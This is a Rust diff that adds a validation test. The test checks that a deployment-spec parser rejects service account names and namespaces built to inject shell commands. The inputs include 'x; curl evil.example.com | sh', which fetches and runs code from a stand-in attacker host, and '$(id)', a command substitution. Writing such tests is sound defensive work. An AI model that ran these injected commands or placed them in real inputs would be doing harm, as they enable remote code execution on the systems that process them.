@@ -97,3 +97,18 @@ fn durations() {
         assert_eq!(duration(text).map(|d| d.as_millis()), expected, "{text}");
     }
 }
+
+#[test]
+fn a_service_account_has_a_name_that_can_stand_in_a_command() {
+    for (namespace, name) in [
+        ("team-a", "x; curl evil.example.com | sh"),
+        ("$(id)", "x"),
+        ("team-a", "x:y"),
+        ("team-a", "-x"),
+        ("team-a", "x\ny"),
+    ] {
+        let account = json!({"serviceAccount": {"namespace": namespace, "name": name}});
+        let findings = CheckedDeploymentSpec::parse(&with(&account)).unwrap_err();
+        assert!(findings.to_string().contains("Invalid value"), "{findings}");
+    }
+}
